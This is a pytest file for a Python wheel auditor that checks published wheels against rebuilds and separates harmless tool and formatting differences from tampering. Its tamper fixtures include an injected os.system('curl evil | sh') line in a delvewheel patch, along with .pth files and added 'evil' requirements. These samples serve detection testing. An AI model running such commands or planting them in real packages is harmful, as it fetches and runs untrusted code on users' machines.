"""The judging rules on small wheels built here: formatting is a named normalization, meaning is not;
repair-tool steps are accepted only in their exact shape; no rule rescues a tampered wheel."""

from __future__ import annotations

import gzip
import json

from auditor.judge.configured import SdistSources
from auditor.judge.members import compare_other_platform, compare_wheels
from auditor.judge.metadata import compare_metadata
from auditor.judge.verdicts import verdict_of
from auditor.records import Verdict
from auditor.results import summarize
from tests.test_compare import BASE, PLACEHOLDER, wheel


def exit_code(packages, strict, fail_on="code"):
    return summarize({"packages": packages}).exit_code(strict, fail_on)

META_NEW = (b"Metadata-Version: 2.4\nName: pkg\nVersion: 1.0\nRequires-Dist: vine<6.0.0,>=5.0.0\n"
            b"Requires-Dist: pytest; extra == \"dev\"\nProvides-Extra: dev\n\nLong text.\n")
# The same facts as written by an older setuptools/wheel (amqp 5.3.1, paginate 0.5.7, pyramid-redirect 0.4).
META_OLD = (b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\nPlatform: UNKNOWN\nProvides-Extra: dev\n"
            b"Requires-Dist: vine (<6.0.0,>=5.0.0)\nRequires-Dist: pytest ; extra == 'dev'\nLicense-File: LICENSE\n"
            b"\nLong text.\n\n\n")


def _with(members, name_suffix, data):
    return [(n, data if n.endswith(name_suffix) else d, m) for n, d, m in members]


def test_metadata_spelling_only_is_equivalent_with_metadata_format(tmp_path):
    reb = wheel(tmp_path / "r.whl", members=_with(BASE, "METADATA", META_NEW))
    pub = wheel(tmp_path / "p.whl", members=_with(BASE, "METADATA", META_OLD))
    cmp = compare_wheels(pub, reb)
    assert verdict_of(cmp)[0] is Verdict.EQUIVALENT, cmp.differences
    assert "metadata-format" in cmp.normalizations and "record-rows" in cmp.normalizations
    notes = " ".join(cmp.format_notes)
    assert "Requires-Dist" in notes and "Platform: UNKNOWN" in notes and "Metadata-Version" in notes


def test_a_new_requirement_differs_as_code(tmp_path):
    reb = wheel(tmp_path / "r.whl", members=_with(BASE, "METADATA", META_NEW))
    evil = META_OLD.replace(b"License-File", b"Requires-Dist: evil-helper>=1\nLicense-File")
    cmp = compare_wheels(wheel(tmp_path / "p.whl", members=_with(BASE, "METADATA", evil)), reb)
    v, reason = verdict_of(cmp)
    assert v is Verdict.DIFFERS and "[code, packaging]" in reason
    d, record = cmp.differences  # the METADATA finding, and RECORD's row for it (evidence, not hidden)
    assert d.cls == "code" and "evil-helper>=1" in d.detail and d.detail  # never an empty detail
    assert record.path.endswith("RECORD") and "METADATA" in record.detail and record.cls == "packaging"


def test_a_changed_marker_and_a_changed_summary_are_classed(tmp_path):
    m = compare_metadata(META_NEW, META_NEW.replace(b'extra == "dev"', b'extra == "test"'))
    assert not m.equal and m.diffs[0].cls == "code"
    m = compare_metadata(META_NEW.replace(b"Version: 1.0\n", b"Version: 1.0\nSummary: a\n"),
                         META_NEW.replace(b"Version: 1.0\n", b"Version: 1.0\nSummary: b\n"))
    assert not m.equal and m.diffs[0].cls == "metadata"


def test_tampered_code_is_not_rescued_by_any_rule(tmp_path):
    """Old-toolchain METADATA (equivalent by meaning) plus one changed line of code: still differs, naming it."""
    reb = wheel(tmp_path / "r.whl", members=_with(BASE, "METADATA", META_NEW))
    tampered = _with(_with(BASE, "METADATA", META_OLD), "pkg/tool.py", b"def f():\n    return 3\n")
    cmp = compare_wheels(wheel(tmp_path / "p.whl", members=tampered), reb)
    assert verdict_of(cmp)[0] is Verdict.DIFFERS
    assert [(d.path, d.cls) for d in cmp.differences] == [("pkg/tool.py", "code"), ("pkg-1.0.dist-info/RECORD", "packaging")]
    assert "pkg/tool.py" in cmp.differences[1].detail and "METADATA" not in cmp.differences[1].detail


def test_a_record_untrue_to_its_wheel_differs(tmp_path):
    reb = wheel(tmp_path / "r.whl")
    lying = [(n, b"pkg/__init__.py,sha256=AAAA,6\n" if n.endswith("RECORD") else d, m) for n, d, m in BASE]
    cmp = compare_wheels(wheel(tmp_path / "p.whl", members=lying), reb)
    assert verdict_of(cmp)[0] is Verdict.DIFFERS
    assert any(d.path.endswith("RECORD") and d.cls == "packaging" for d in cmp.differences)


SBOM = json.dumps({"bomFormat": "CycloneDX", "specVersion": "1.4",
                   "metadata": {"tools": [{"name": "auditwheel", "version": "6.4.2"}]}}).encode()


def _platform(members, tag):
    return [(n, d.replace(b"Root-Is-Purelib: true\nTag: py3-none-any", f"Root-Is-Purelib: false\nTag: {tag}".encode())
             if n.endswith("WHEEL") else d, m) for n, d, m in members]


def test_auditwheel_sbom_is_a_named_tool_step_and_a_stray_file_there_is_not(tmp_path):
    so = ("pkg/_x.cpython-311-x86_64-linux-gnu.so", b"\x7fELF-rebuilt", 0o755)
    reb = wheel(tmp_path / "r.whl", members=_platform(BASE, "cp311-cp311-linux_x86_64") + [so])
    pub_members = _platform(BASE, "cp311-cp311-manylinux_2_17_x86_64") + [
        (so[0], b"\x7fELF-published", 0o755), ("pkg-1.0.dist-info/sboms/auditwheel.cdx.json", SBOM, 0o644)]
    cmp = compare_wheels(wheel(tmp_path / "p.whl", members=pub_members), reb, binary=True)
    v, _ = verdict_of(cmp)
    assert v is Verdict.PARTIAL, cmp.differences
    assert cmp.tool_steps == ["auditwheel 6.4.2 SBOM (sboms/auditwheel.cdx.json)"]
    # the same path with something that is not auditwheel's SBOM, and an added .pth: both differ
    bad = pub_members[:-1] + [("pkg-1.0.dist-info/sboms/auditwheel.cdx.json", b"import os", 0o644), ("x.pth", b"import os\n", 0o644)]
    cmp = compare_wheels(wheel(tmp_path / "bad.whl", members=bad), reb, binary=True)
    assert verdict_of(cmp)[0] is Verdict.DIFFERS
    assert {d.path for d in cmp.differences} == {"pkg-1.0.dist-info/sboms/auditwheel.cdx.json", "x.pth",
                                                 "pkg-1.0.dist-info/RECORD"}


def test_delocate_generator_line_is_named_other_wheel_lines_are_not(tmp_path):
    reb = wheel(tmp_path / "r.whl", members=_platform(BASE, "cp311-cp311-linux_x86_64")
                + [("pkg/_x.cpython-311-x86_64-linux-gnu.so", b"\x7fELF", 0o755)])
    mac = [(n, d + b"Generator: delocate 0.13.0\n" if n.endswith("WHEEL") else d, m)
           for n, d, m in _platform(BASE, "cp312-cp312-macosx_11_0_arm64")] + [("pkg/_x.cpython-312-darwin.so", b"\xcf\xfa", 0o755)]
    cmp = compare_other_platform(wheel(tmp_path / "mac.whl", members=mac), reb)
    assert verdict_of(cmp)[0] is Verdict.PARTIAL, cmp.differences
    assert cmp.tool_steps == ["delocate 0.13.0 (WHEEL Generator line)"]
    evil = [(n, d + b"Generator: delocate 0.13.0\nRoot-Is-Purelib: true\n" if n.endswith("WHEEL") else d, m) for n, d, m in mac]
    evil = [(n, d.replace(b"Root-Is-Purelib: false\n", b"") if n.endswith("WHEEL") else d, m) for n, d, m in evil]
    cmp = compare_other_platform(wheel(tmp_path / "evil.whl", members=evil + [("pkg/evil.pth", b"import os\n", 0o644)]), reb)
    assert verdict_of(cmp)[0] is Verdict.DIFFERS and "pkg/evil.pth" in {d.path for d in cmp.differences}


def test_gzipped_data_is_explained_not_hidden(tmp_path):
    data = b'{"service": "s3"}\n'
    reb = wheel(tmp_path / "r.whl", members=BASE + [("pkg/data/s3.json", data, 0o644)])
    pub = wheel(tmp_path / "p.whl", members=BASE + [("pkg/data/s3.json.gz", gzip.compress(data, mtime=0), 0o644)])
    cmp = compare_wheels(pub, reb)
    v, reason = verdict_of(cmp)
    (d,) = cmp.differences
    assert v is Verdict.DIFFERS and "data compressed" in d.cause  # the reason names it once written (judgement.py)
    assert d.cls == "packaging" and "decompressed content equal" in d.detail
    # a .gz whose content is not the rebuild's: an added member of code class
    pub2 = wheel(tmp_path / "p2.whl", members=BASE + [("pkg/data/s3.json.gz", gzip.compress(b"{}", mtime=0), 0o644)])
    cmp = compare_wheels(pub2, reb)
    assert {(d.path, d.cls) for d in cmp.differences} == {("pkg/data/s3.json.gz", "code"), ("pkg/data/s3.json", "code"),
                                                          ("pkg-1.0.dist-info/RECORD", "packaging")}


def test_exit_code_follows_fail_on():
    pkg = lambda cls: {"verdict": "differs", "wheels": [{"verdict": "differs", "classes": [cls]}]}
    assert exit_code([pkg("packaging")], strict=False) == 0
    assert exit_code([pkg("packaging")], strict=True) == 3
    assert exit_code([pkg("packaging")], strict=False, fail_on="any") == 1
    assert exit_code([pkg("metadata")], strict=False, fail_on="metadata") == 1
    assert exit_code([pkg("code")], strict=False) == 1
    assert exit_code([{"verdict": "differs", "wheels": [{"verdict": "differs"}]}], strict=False) == 1  # hash mismatch
    assert PLACEHOLDER  # the fixture helper writes true RECORDs


def test_license_moved_into_licenses_is_named_and_other_bytes_are_not(tmp_path):
    """A cp38 wheel of charset-normalizer 3.4.7 (older setuptools) has dist-info/LICENSE where ours has
    dist-info/licenses/LICENSE: same bytes, named; a license with other bytes is a difference."""
    lic = b"MIT License\n"
    reb = wheel(tmp_path / "r.whl", members=BASE + [("pkg-1.0.dist-info/licenses/LICENSE", lic, 0o644)])
    pub = wheel(tmp_path / "p.whl", members=BASE + [("pkg-1.0.dist-info/LICENSE", lic, 0o644)])
    cmp = compare_wheels(pub, reb)
    assert verdict_of(cmp)[0] is Verdict.EQUIVALENT and "license-file-location" in cmp.normalizations
    pub2 = wheel(tmp_path / "p2.whl", members=BASE + [("pkg-1.0.dist-info/LICENSE", b"Proprietary\n", 0o644)])
    cmp = compare_wheels(pub2, reb)
    assert verdict_of(cmp)[0] is Verdict.DIFFERS
    assert {d.path for d in cmp.differences} >= {"pkg-1.0.dist-info/LICENSE", "pkg-1.0.dist-info/licenses/LICENSE"}


def test_variants_read_off_the_published_wheel_and_the_sdist(tmp_path):
    from auditor.plan.variants import variant

    wa = wheel(tmp_path / "w.whl")
    proj = tmp_path / "proj"
    proj.mkdir()
    (proj / "setup.py").write_text("import os\nif os.getenv('PKG_USE_MYPYC', None) == '1':\n    pass\n")
    assert variant(wa, "pkg-1.0-py2.py3-none-any.whl", proj, "wheel")[:3] == ("universal", {}, {"universal": True})
    assert variant(wa, "pkg-1.0-py3-none-any.whl", proj, "wheel")[0] is None
    assert variant(wa, "pkg-1.0-cp38-abi3-manylinux_2_17_x86_64.whl", proj, "setuptools")[:3] == (
        "limited-api", {}, {"py_limited_api": "cp38"})  # pynacl 1.6.2
    mypyc = wheel(tmp_path / "m.whl", members=BASE + [("abc123__mypyc.cpython-311-x86_64-linux-gnu.so", b"\x7fELF", 0o755)])
    assert variant(mypyc, "pkg-1.0-cp311-cp311-manylinux_2_17_x86_64.whl", proj, "setuptools")[:2] == (
        "mypyc", {"PKG_USE_MYPYC": "1"})
    (proj / "setup.py").write_text("from setuptools import setup\nsetup()\n")
    (proj / "pyproject.toml").write_text("[tool.hatch.build.targets.wheel.hooks.mypyc]\nenable-by-default = false\n")
    assert variant(mypyc, "pkg-1.0-cp311-cp311-manylinux_2_17_x86_64.whl", proj, "hatchling")[:2] == (
        "mypyc", {"HATCH_BUILD_HOOK_ENABLE_MYPYC": "true"})


def test_maturin_module_shim_is_named_in_the_sources_check(tmp_path):
    """nh3 0.3.6, rpds-py, comrak: maturin writes MODULE/__init__.py, __init__.pyi and py.typed for a
    pure-Rust module; the sources check accepts exactly those, and not another __init__.py."""
    from auditor.judge.sources import cross_check_sources

    sd = tmp_path / "sd" / "nh3-0.3.6"
    sd.mkdir(parents=True)
    (sd / "nh3.pyi").write_bytes(b"def clean(html: str) -> str: ...\n")
    init = b'from .nh3 import *\n\n__doc__ = nh3.__doc__\nif hasattr(nh3, "__all__"):\n    __all__ = nh3.__all__\n'
    members = [("nh3/__init__.py", init, 0o644), ("nh3/__init__.pyi", (sd / "nh3.pyi").read_bytes(), 0o644),
               ("nh3/py.typed", b"", 0o644), ("nh3/nh3.cpython-312-darwin.so", b"\xcf\xfa", 0o755),
               ("nh3-0.3.6.dist-info/WHEEL", b"Wheel-Version: 1.0\nGenerator: maturin (1.9.4)\nRoot-Is-Purelib: false\n", 0o644),
               ("nh3-0.3.6.dist-info/RECORD", PLACEHOLDER, 0o644)]
    cmp = cross_check_sources(wheel(tmp_path / "nh3.whl", members=members), sd)
    # the shim's three files, and RECORD true to the wheel (WHEEL has no Tag line to hold it to: listed)
    assert not cmp.differences and cmp.members_verified == 4 and cmp.tool_steps == ["maturin 1.9.4 module shim"]
    evil = [(n, d + b"import os\n" if n == "nh3/__init__.py" else d, m) for n, d, m in members]
    cmp = cross_check_sources(wheel(tmp_path / "evil.whl", members=evil), sd)
    assert [d.path for d in cmp.differences] == ["nh3/__init__.py"]


def test_dist_info_name_spelled_by_an_older_setuptools_is_named(tmp_path):
    """pyyaml 6.0.3's cp38 wheels carry PyYAML-6.0.3.dist-info, its newer ones pyyaml-6.0.3.dist-info."""
    reb = wheel(tmp_path / "r.whl")
    old = [(n.replace("pkg-1.0.dist-info", "Pkg-1.0.dist-info"), d, m) for n, d, m in BASE]
    cmp = compare_wheels(wheel(tmp_path / "p.whl", members=old), reb)
    assert verdict_of(cmp)[0] is Verdict.EQUIVALENT, cmp.differences
    assert "dist-info-name" in cmp.normalizations
    other = [(n.replace("pkg-1.0.dist-info", "other-1.0.dist-info"), d, m) for n, d, m in BASE]
    assert verdict_of(compare_wheels(wheel(tmp_path / "o.whl", members=other), reb))[0] is Verdict.DIFFERS


def test_failure_causes_are_one_line_and_checkable():
    from auditor.rebuild.failures import failure_cause

    assert "Rust" in failure_cause("error: can't find Rust compiler\nIf you are using an outdated pip")
    assert "libxml2 and libxslt" in failure_cause("Error: Please make sure the libxml2 and libxslt development packages are installed.")
    assert "Python 3.9 or older" in failure_cause("AttributeError: module 'collections' has no attribute 'MutableMapping'")
    assert "network" in failure_cause("socket.gaierror: [Errno -3] Temporary failure in name resolution")
    assert failure_cause("error: command 'gcc' failed: unexplained") is None  # unknown: the log's tail is shown
    # seen on the held-out corpus (edx-platform): pillow, mysqlclient, xmlsec, scipy
    assert "jpeg library" in failure_cause("The headers or library files could not be found for jpeg,\n"
                                           "a required dependency when compiling Pillow from source.")
    assert "MySQL/MariaDB" in failure_cause("Exception: Can not find valid pkg-config name.\n"
                                            "Specify MYSQLCLIENT_CFLAGS and MYSQLCLIENT_LDFLAGS env vars manually")
    assert "xmlsec1" in failure_cause("running build_ext\nerror: xmlsec1 is not installed or not in path.")
    assert "gfortran" in failure_cause("../meson.build:88:0: ERROR: Unknown compiler(s): [['gfortran'], ['flang-new']]")


def test_bundled_headers_of_a_platform_wheel_are_listed_not_verified(tmp_path):
    """lxml 6.1.1's static build ships libxml2/zlib headers under lxml/includes/ that no sdist holds."""
    so = ("pkg/_x.cpython-311-x86_64-linux-gnu.so", b"\x7fELF", 0o755)
    reb = wheel(tmp_path / "r.whl", members=_platform(BASE, "cp311-cp311-linux_x86_64") + [so])
    extra = [("pkg/includes/zlib/zlib.h", b"#define ZLIB 1\n", 0o644), ("pkg/includes/zlib/__init__.py", b"", 0o644)]
    pub = wheel(tmp_path / "p.whl", members=_platform(BASE, "cp311-cp311-linux_x86_64") + [so] + extra)
    cmp = compare_wheels(pub, reb, binary=True)
    assert verdict_of(cmp)[0] is Verdict.PARTIAL, cmp.differences
    assert {d.path for d in cmp.compiled_differences} >= {"pkg/includes/zlib/zlib.h", "pkg/includes/zlib/__init__.py"}
    code = [("pkg/includes/zlib/__init__.py", b"import os\n", 0o644), ("pkg/includes/zlib/zlib.h", b"", 0o644)]
    pub = wheel(tmp_path / "p2.whl", members=_platform(BASE, "cp311-cp311-linux_x86_64") + [so] + code)
    cmp = compare_wheels(pub, reb, binary=True)
    assert "pkg/includes/zlib/__init__.py" in {d.path for d in cmp.differences}  # code is never a header


def test_one_finding_for_the_same_difference_on_many_wheels():
    from auditor.judge.findings import group
    from auditor.records import WheelResult

    def entry(fn, detail_tag, extra="", verdict="differs"):
        return WheelResult(filename=fn, url="", sha256=None, upload_time=None, size=None, yanked=None, flags=[],
                           verdict=verdict, classes=["packaging"], reason="r",
                           differences=[{"path": "p-1.0.dist-info/WHEEL", "kind": "metadata", "cls": "packaging",
                                         "cause": None,
                                         "detail": f"WHEEL Tag: only in the published wheel: {detail_tag}{extra}"}])
    wheels = [entry(f"p-1.0-cp3{i}-cp3{i}-macosx_11_0_arm64.whl", f"cp3{i}-cp3{i}-macosx_11_0_arm64") for i in range(8, 14)]
    odd = entry("p-1.0-cp312-cp312-win_amd64.whl", "cp312-cp312-win_amd64", " and Tag: py2-none-any")
    found = group(wheels + [odd, entry("p-1.0-py3-none-any.whl", "", verdict="partial")])
    assert sorted(len(f.wheels) for f in found) == [1, 6]
    assert all(w.finding for w in wheels) and wheels[0].finding == wheels[-1].finding != odd.finding


SCM = (b"# file generated by setuptools-scm\n# don't change, don't track in version control\n"
       b"__version__ = version = '1.12.0'\n__commit_id__ = commit_id = {}\n")


def test_scm_commit_id_of_the_publishers_checkout_is_named_and_nothing_else(tmp_path):
    """lazy-object-proxy 1.12.0: built from a git checkout, its _version.py names the commit; the sdist's None."""
    reb = wheel(tmp_path / "r.whl", members=BASE + [("pkg/_version.py", SCM.replace(b"{}", b"None"), 0o644)])
    pub = wheel(tmp_path / "p.whl", members=BASE + [("pkg/_version.py", SCM.replace(b"{}", b"'g1b694980d'"), 0o644)])
    cmp = compare_wheels(pub, reb)
    assert verdict_of(cmp)[0] is Verdict.EQUIVALENT and "setuptools-scm" in cmp.tool_steps[0]
    evil = SCM.replace(b"{}", b"'g1b694980d'").replace(b"'1.12.0'", b"'1.12.1'")
    cmp = compare_wheels(wheel(tmp_path / "e.whl", members=BASE + [("pkg/_version.py", evil, 0o644)]), reb)
    assert verdict_of(cmp)[0] is Verdict.DIFFERS


def test_pure_variant_top_level_lacks_only_optional_extensions(tmp_path):
    """cbor2 5.9.0's pure wheel: top_level.txt without the _cbor2 extension the rebuild has."""
    from auditor.judge.members import compare_other_platform

    so = ("_cbor2.cpython-311-x86_64-linux-gnu.so", b"\x7fELF", 0o755)
    reb = wheel(tmp_path / "r.whl", members=BASE + [so, ("pkg-1.0.dist-info/top_level.txt", b"_cbor2\npkg\n", 0o644)])
    pub = wheel(tmp_path / "p.whl", members=BASE + [("pkg-1.0.dist-info/top_level.txt", b"pkg\n", 0o644)])
    cmp = compare_other_platform(pub, reb, pure_variant=True)
    assert verdict_of(cmp)[0] is Verdict.PARTIAL, cmp.differences
    other = wheel(tmp_path / "o.whl", members=BASE + [("pkg-1.0.dist-info/top_level.txt", b"evil\npkg\n", 0o644)])
    assert verdict_of(compare_other_platform(other, reb, pure_variant=True))[0] is Verdict.DIFFERS


def test_compiled_variant_not_built_here_is_partial_only_when_a_source_accounts_for_it(tmp_path):
    """google-crc32c 1.8.0: without libcrc32c its build falls back to pure Python; the published wheel's
    _crc32c extension (src/google_crc32c/_crc32c.c in the sdist) is not reproduced, not a tamper."""
    pure = _with(BASE, "WHEEL", b"Wheel-Version: 1.0\nGenerator: setuptools (80.9.0)\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    reb = wheel(tmp_path / "r.whl", members=pure)
    so = ("pkg/_crc32c.cpython-311-x86_64-linux-gnu.so", b"\x7fELF", 0o755)
    binary = _with(BASE, "WHEEL", b"Wheel-Version: 1.0\nGenerator: setuptools (80.9.0)\nRoot-Is-Purelib: false\n"
                   b"Tag: cp311-cp311-manylinux_2_17_x86_64\n") + [so]
    pub = wheel(tmp_path / "p.whl", members=binary)
    cmp = compare_wheels(pub, reb, binary=True, sources=SdistSources({"_crc32c", "__init__"}))
    assert verdict_of(cmp)[0] is Verdict.PARTIAL, cmp.differences
    assert so[0] in {d.path for d in cmp.compiled_differences}
    cmp = compare_wheels(pub, reb, binary=True, sources=SdistSources({"__init__"}))  # no source for it: differs
    assert verdict_of(cmp)[0] is Verdict.DIFFERS and so[0] in {d.path for d in cmp.differences}


def test_project_urls_that_differ_are_described_not_a_crash():
    """protobuf 7.35.1: Project-URL fields differ (label, URL pairs): a metadata difference in one line."""
    m = compare_metadata(META_NEW.replace(b"Version: 1.0\n", b"Version: 1.0\nProject-URL: Home, https://a.example\n"),
                         META_NEW.replace(b"Version: 1.0\n", b"Version: 1.0\nProject-URL: Home, https://b.example\n"))
    assert not m.equal and m.diffs[0].cls == "metadata" and "https://a.example" in m.diffs[0].detail


def test_zip_safe_marker_with_other_blank_lines_is_a_spelling(tmp_path):
    """google-crc32c 1.8.0: the publisher's setuptools wrote zip-safe as one newline, ours as two."""
    reb = wheel(tmp_path / "r.whl", members=BASE + [("pkg-1.0.dist-info/zip-safe", b"\n\n", 0o644)])
    pub = wheel(tmp_path / "p.whl", members=BASE + [("pkg-1.0.dist-info/zip-safe", b"\n", 0o644)])
    cmp = compare_wheels(pub, reb)
    assert verdict_of(cmp)[0] is Verdict.EQUIVALENT and "metadata-format" in cmp.normalizations
    bad = wheel(tmp_path / "b.whl", members=BASE + [("pkg-1.0.dist-info/zip-safe", b"import os\n", 0o644)])
    assert verdict_of(compare_wheels(bad, reb))[0] is Verdict.DIFFERS


def test_mypyc_modules_are_accounted_for_by_their_python_sources(tmp_path):
    """chardet 7.4.3's Windows wheels: pipeline/ascii__mypyc.pyd comes from pipeline/ascii.py, and
    4ef79d6367bb14396397__mypyc is mypyc's shared runtime."""
    from auditor.judge.steps import accounted_member

    src = SdistSources({"ascii", "__init__"})
    assert accounted_member("chardet/pipeline/ascii__mypyc.cp310-win_amd64.pyd", src)
    assert accounted_member("4ef79d6367bb14396397__mypyc.cpython-311-x86_64-linux-gnu.so", src)
    assert not accounted_member("chardet/pipeline/stealer__mypyc.cp310-win_amd64.pyd", src)
    assert not accounted_member("chardet/evil.cp310-win_amd64.pyd", src)


def test_source_checksums_written_from_another_checkout_are_build_path(tmp_path):
    """aiohttp 3.13.3 (held-out corpus): its build writes aiohttp/.hash/X.hash = `sha256  /abs/checkout/aiohttp/X`;
    the macOS wheel's name /Users/runner/…, the Windows wheel's D:/a/… with the hash of its CRLF checkout."""
    import hashlib

    src = b"cdef int x\n"
    crlf = src.replace(b"\n", b"\r\n")

    def stamp(prefix: str, data: bytes, sep: str = "  ") -> bytes:
        return f"{hashlib.sha256(data).hexdigest()}{sep}{prefix}pkg/x.pxd\n".encode()

    reb = wheel(tmp_path / "r.whl", members=BASE + [("pkg/x.pxd", src, 0o644),
                                                   ("pkg/.hash/x.pxd.hash", stamp("/home/runner/work/pkg/", src), 0o644)])
    mac = wheel(tmp_path / "m.whl", members=BASE + [("pkg/x.pxd", src, 0o644),
                                                   ("pkg/.hash/x.pxd.hash", stamp("/Users/runner/work/pkg/", src), 0o644)])
    cmp = compare_other_platform(mac, reb)  # another platform's wheel: no difference (partial by its check)
    assert not cmp.differences and "build-path" in cmp.normalizations, cmp.differences
    assert any("/Users/runner/work/pkg/" in n for n in cmp.format_notes)
    win = wheel(tmp_path / "w.whl", members=BASE + [("pkg/x.pxd", crlf, 0o644),
                                                   ("pkg/.hash/x.pxd.hash", stamp("D:/a/pkg/", crlf, " *"), 0o644)])
    cmp = compare_other_platform(win, reb)
    assert not cmp.differences and {"build-path", "crlf-line-endings"} <= set(cmp.normalizations)
    # a stamp whose hash is not its file's, a stamp naming another file, or the file itself changed: differs
    lie = wheel(tmp_path / "l.whl", members=BASE + [("pkg/x.pxd", src, 0o644),
                                                   ("pkg/.hash/x.pxd.hash", stamp("/Users/x/", b"other"), 0o644)])
    assert verdict_of(compare_other_platform(lie, reb))[0] is Verdict.DIFFERS
    evil = b"cdef int y\n"
    changed = wheel(tmp_path / "c.whl", members=BASE + [("pkg/x.pxd", evil, 0o644),
                                                       ("pkg/.hash/x.pxd.hash", stamp("/Users/x/", evil), 0o644)])
    cmp = compare_other_platform(changed, reb)
    assert verdict_of(cmp)[0] is Verdict.DIFFERS and [d.path for d in cmp.differences][0] == "pkg/x.pxd"
    # aiohttp 3.12.14: the rebuild's lines name no path (or a relative one); each hash still checked
    for unnamed in (f"{hashlib.sha256(src).hexdigest()}\n".encode(), stamp("", src)):
        reb2 = wheel(tmp_path / "r2.whl", members=BASE + [("pkg/x.pxd", src, 0o644), ("pkg/.hash/x.pxd.hash", unnamed, 0o644)])
        cmp = compare_other_platform(mac, reb2)
        assert not cmp.differences and "build-path" in cmp.normalizations, cmp.differences
        assert verdict_of(compare_other_platform(lie, reb2))[0] is Verdict.DIFFERS
    wrong = wheel(tmp_path / "r3.whl", members=BASE + [("pkg/x.pxd", src, 0o644),
                                                      ("pkg/.hash/x.pxd.hash", f"{'0' * 64}\n".encode(), 0o644)])
    assert verdict_of(compare_other_platform(mac, wrong))[0] is Verdict.DIFFERS
    # the same rule for a wheel rebuilt here (linux): the path is named, nothing else differs
    cmp = compare_wheels(mac, reb, binary=True)
    assert verdict_of(cmp)[0] is Verdict.EQUIVALENT and "build-path" in cmp.normalizations, cmp.differences


# The shape delvewheel inserts into a Windows wheel's package __init__.py (its v2 layout, Python >= 3.10).
DELVE = (b"# start delvewheel patch\ndef _delvewheel_patch_1_11_2():\n    import os\n"
         b"    if os.path.isdir(libs_dir := os.path.abspath(os.path.join(os.path.dirname(__file__), os.pardir, "
         b"'pkg.libs'))):\n        os.add_dll_directory(libs_dir)\n\n\n_delvewheel_patch_1_11_2()\n"
         b"del _delvewheel_patch_1_11_2\n# end delvewheel patch\n")


def test_delvewheel_patch_is_a_named_tool_step_and_any_other_code_in_it_is_not(tmp_path):
    """shapely-like Windows wheels: delvewheel grafts pkg.libs/*.dll and patches pkg/__init__.py."""
    doc = b'"""The package."""\n'
    reb = wheel(tmp_path / "r.whl", members=BASE)
    dll = ("pkg.libs/geos_c-abc123.dll", b"MZ\x90", 0o644)

    def patched(block, lib=dll):
        init = (doc + b"\n\n" + block + b"\n" + b"x = 1\n").replace(b"\n", b"\r\n")  # a Windows checkout
        return wheel(tmp_path / "w.whl", members=_with(BASE, "pkg/__init__.py", init) + [lib])

    reb = wheel(tmp_path / "r.whl", members=_with(BASE, "pkg/__init__.py", doc + b"x = 1\n"))
    cmp = compare_other_platform(patched(DELVE), reb)
    assert not cmp.differences, cmp.differences
    assert any("delvewheel 1.11.2 patch of pkg/__init__.py" in s for s in cmp.tool_steps)
    # the same block calling anything else, naming a directory the wheel does not graft, or the file's own
    # code changed beside it: differs
    evil = DELVE.replace(b"        os.add_dll_directory(libs_dir)\n", b"        os.add_dll_directory(libs_dir)\n"
                         b"        os.system('curl evil | sh')\n")
    def differing(pub, rebuilt=reb):
        return [d.path for d in compare_other_platform(pub, rebuilt).differences if not d.path.endswith("RECORD")]
    assert differing(patched(evil)) == ["pkg/__init__.py"]
    assert differing(patched(DELVE, ("other/x.dll", b"MZ", 0o644))) == ["pkg/__init__.py"]
    reb2 = wheel(tmp_path / "r2.whl", members=_with(BASE, "pkg/__init__.py", doc + b"x = 2\n"))
    assert differing(patched(DELVE), reb2) == ["pkg/__init__.py"]
    # its dist-info/DELVEWHEEL record (Version, Arguments) is a named step; other lines there are not
    record = ("pkg-1.0.dist-info/DELVEWHEEL", b"Version: 1.11.2\nArguments: ['delvewheel', 'repair', 'x.whl']\n", 0o644)
    init = (doc + b"\n\n" + DELVE + b"\n" + b"x = 1\n").replace(b"\n", b"\r\n")
    win = wheel(tmp_path / "w2.whl", members=_with(BASE, "pkg/__init__.py", init) + [dll, record])
    cmp = compare_other_platform(win, reb)
    assert not cmp.differences and any("delvewheel 1.11.2 record" in s for s in cmp.tool_steps), cmp.differences
    odd = (record[0], record[1] + b"import os\n", 0o644)
    assert compare_other_platform(wheel(tmp_path / "w3.whl", members=_with(BASE, "pkg/__init__.py", init) + [dll, odd]),
                                  reb).differences
    # when nothing could be rebuilt, the sources check knows the patch too (shapely 2.1.2 on the held-out lock)
    from auditor.judge.sources import cross_check_sources
    src = tmp_path / "src"
    (src / "pkg").mkdir(parents=True)
    (src / "pkg" / "__init__.py").write_bytes(doc + b"x = 1\n")
    (src / "pkg" / "tool.py").write_bytes(b"def f():\n    return 2\n")
    cmp = cross_check_sources(win, src)
    assert not cmp.differences and any("delvewheel" in s for s in cmp.tool_steps), cmp.differences
    (src / "pkg" / "__init__.py").write_bytes(doc + b"x = 2\n")
    assert [d.path for d in cross_check_sources(win, src).differences] == ["pkg/__init__.py"]


def test_a_shared_library_without_a_module_init_is_a_bundled_library_not_an_extension(tmp_path):
    """snowflake-connector-python 4.2.0 (held-out corpus): every platform's wheel ships prebuilt
    minicore/<platform>/libsf_mini_core.so (no PyInit_: the package loads it with ctypes); an
    importable extension module no source accounts for still differs."""
    reb = wheel(tmp_path / "r.whl", members=BASE)
    lib = ("pkg/minicore/linux_aarch64/libsf_core.so", b"\x7fELF\x02\x01" + b"\0" * 32 + b"sf_core_init\0", 0o755)
    mod = ("pkg/_evil.cpython-311-darwin.so", b"\xcf\xfa\xed\xfe" + b"\0" * 32 + b"_PyInit__evil\0", 0o755)
    cmp = compare_other_platform(wheel(tmp_path / "l.whl", members=BASE + [lib]), reb, sources=SdistSources({"tool"}))
    assert not cmp.differences and [d.path for d in cmp.compiled_differences] == [lib[0]]
    cmp = compare_other_platform(wheel(tmp_path / "m.whl", members=BASE + [mod]), reb, sources=SdistSources({"tool"}))
    assert [d.path for d in cmp.differences if not d.path.endswith("RECORD")] == [mod[0]]


def test_extras_a_setup_py_chooses_by_platform_are_listed_not_a_difference(tmp_path):
    """psutil 7.2.1 (held-out corpus): its setup.py adds pywin32, wmi… to the `dev` extra when it builds on
    Windows, so the Windows wheels' METADATA has requirements the linux rebuild cannot have."""
    meta = b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\nProvides-Extra: dev\nRequires-Dist: pytest; extra == \"dev\"\n"
    win = meta + b'Requires-Dist: pywin32; os_name == "nt" and extra == "dev"\n'
    setup_py = "if WINDOWS:\n    DEV_DEPS += ['pywin32', 'wmi']\n"
    reb = wheel(tmp_path / "r.whl", members=_with(BASE, "METADATA", meta))
